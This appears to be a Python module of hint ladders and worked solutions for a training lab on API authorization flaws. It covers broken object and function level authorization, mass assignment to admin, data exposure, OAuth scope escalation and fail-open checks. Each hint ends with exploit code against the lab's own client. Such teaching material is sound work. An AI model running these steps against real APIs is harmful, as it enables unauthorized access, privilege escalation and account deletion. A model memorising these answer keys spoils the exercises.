"""Lesson 06's hint ladders: for each flag, a nudge, the technique, then the steps.

The steps' code runs on a fresh lab with nothing but ``lab`` defined (the hint tests run
it), so each block finds its own user in ``lab.users`` and ends with the exercise's grader.
"""

from __future__ import annotations

_AS_VERA = (
    'vera = next(u for u in lab.users if u["username"] == "vera")\n'
    'bearer = {"Authorization": "Bearer " + vera["token"]}\n'
)

LADDERS: dict[str, tuple[str, str, str]] = {
    "bola": (
        "Look at the ids GET /invoices gives vera: how are invoices numbered? Her app only "
        "ever asks GET /invoices/{id} for those; what does the server do with an id you "
        "choose?",
        "Broken Object Level Authorization (also called IDOR): the server finds an object by "
        "the id in the URL and never checks that it is the caller's. OWASP API Security Top 10 "
        "2023, API1:2023 Broken Object Level Authorization; CWE-639 (Authorization Bypass "
        "Through User-Controlled Key).",
        "1. Send vera's session token as a bearer token.\n"
        "2. GET /invoices/{id} with the id of an invoice she does not own (3 is eddie's).\n"
        "3. The 200 answer is eddie's invoice; its flag field holds the bola flag.\n"
        "```python\n" + _AS_VERA + 'stolen = lab.client.get("/invoices/3", headers=bearer).json()\n'
        'print(stolen["owner"], stolen["amount_cents"])\n'
        'flag_bola = stolen["flag"]\nlab.check_flag("bola", flag_bola)\n'
        "```",
    ),
    "bfla": (
        "Vera's UI shows no admin buttons. The lab's card (and its /docs page) lists every "
        "route the server has: which ones are not for a viewer? Does the server agree?",
        "Broken Function Level Authorization: an administrative function that checks who you "
        "are but not what your role may do; hiding its button is not a rule. OWASP API "
        "Security Top 10 2023, API5:2023 Broken Function Level Authorization; CWE-285 "
        "(Improper Authorization).",
        "1. As vera, call DELETE /admin/users/{user_id} on an account (5 is the billing "
        "service account; lab.grade() puts it back before grading).\n"
        "2. The 200 answer names the deleted id and carries the bfla flag.\n"
        "```python\n"
        + _AS_VERA
        + 'gone = lab.client.delete("/admin/users/5", headers=bearer).json()\n'
        'print(gone["deleted"])\n'
        'flag_bfla = gone["flag"]\nlab.check_flag("bfla", flag_bfla)\n'
        "```",
    ),
    "mass-assignment": (
        "Compare the fields GET /me shows with the ones the app lets you edit. One of them "
        "decides what you may do. Does PATCH /me take only what the app's form sends?",
        "Mass assignment: the server binds every field a request body names onto the stored "
        "record, so a client writes fields it was never meant to (role, owner, id). OWASP API "
        "Security Top 10 2023, API3:2023 Broken Object Property Level Authorization; CWE-915; "
        "OWASP Mass Assignment Cheat Sheet.",
        "1. As eddie, send PATCH /me with a JSON body that sets role to admin.\n"
        "2. The answer shows the new role and carries the mass-assignment flag.\n"
        "3. Send the same request with role editor to put eddie back.\n"
        "```python\n"
        'eddie = next(u for u in lab.users if u["username"] == "eddie")\n'
        'bearer = {"Authorization": "Bearer " + eddie["token"]}\n'
        'promoted = lab.client.patch("/me", headers=bearer, json={"role": "admin"}).json()\n'
        'print(promoted["role"])\n'
        'lab.client.patch("/me", headers=bearer, json={"role": "editor"})\n'
        'flag_mass = promoted["flag"]\nlab.check_flag("mass-assignment", flag_mass)\n'
        "```",
    ),
    "data-exposure": (
        "Print every key of one of vera's own invoices, not just the ones her app shows, and "
        "ask of each field: who is it written for?",
        "Excessive data exposure: the API sends whole records and trusts the client to hide "
        "what the user must not see. OWASP API Security Top 10 2023, API3:2023 Broken Object "
        "Property Level Authorization; CWE-213 (Exposure of Sensitive Information Due to "
        "Incompatible Policies).",
        "1. As vera, GET /invoices/1, an invoice she owns.\n"
        "2. Its internal_note is written by staff for staff (support and admin); the answer "
        "that shows it to vera carries the data-exposure flag.\n"
        "```python\n" + _AS_VERA + 'mine = lab.client.get("/invoices/1", headers=bearer).json()\n'
        'print(mine["internal_note"])\n'
        'flag_exposure = mine["flag"]\nlab.check_flag("data-exposure", flag_exposure)\n'
        "```",
    ),
    "scope-escalation": (
        "RFC 8693 §2.1 lists the token exchange's parameters: four of them make a request "
        "here (which URN says that vera's session token is an access token?), and each "
        "refusal's error_description names what is missing. Once an exchange works, compare "
        "the scope you asked for, the scope granted, and the table of roles' scopes.",
        "Scope escalation: the authorization server issues whatever scope the client "
        "requests instead of at most what the user may have. RFC 6749 §3.3 lets the server "
        "grant less than requested (and then say what it granted); RFC 8693 §2.1 is the "
        "token exchange request this endpoint takes.",
        "1. Exchange vera's session token (grant_type token-exchange, subject_token_type "
        "access_token) for a token with scope users:admin.\n"
        "2. The answer's scope includes users:admin, and the answer carries the flag.\n"
        "```python\n"
        'vera = next(u for u in lab.users if u["username"] == "vera")\n'
        "form = {\n"
        '    "grant_type": "urn:ietf:params:oauth:grant-type:token-exchange",\n'
        '    "subject_token": vera["token"],\n'
        '    "subject_token_type": "urn:ietf:params:oauth:token-type:access_token",\n'
        '    "scope": "users:admin",\n'
        "}\n"
        'granted = lab.client.post("/oauth/token", data=form).json()\n'
        'print(granted["scope"])\n'
        'flag_scope = granted["flag"]\nlab.check_flag("scope-escalation", flag_scope)\n'
        "```",
    ),
    "fail-open": (
        "GET /health says whether the permissions service is up. What does the policy do "
        "when who.role() cannot answer? Try a request vera should not get, while it is down.",
        "Failing open: when a security check cannot complete (an exception, a dependency "
        "down), the code allows instead of denying. CWE-636 (Not Failing Securely ('Failing "
        "Open')); OWASP ASVS 5.0 requirement 16.5.3 (no fail-open conditions).",
        "1. Take the permissions service down for the length of a with block: "
        'lab.outage("permissions").\n'
        "2. Inside it, as vera, GET an invoice that is not hers (3 is eddie's).\n"
        "3. The 200 answer carries the fail-open flag.\n"
        "```python\n" + _AS_VERA + 'down = lab.outage("permissions")\n'
        "with down:\n"
        '    during = lab.client.get("/invoices/3", headers=bearer).json()\n'
        'flag_outage = during["flag"]\nlab.check_flag("fail-open", flag_outage)\n'
        "```",
    ),
}
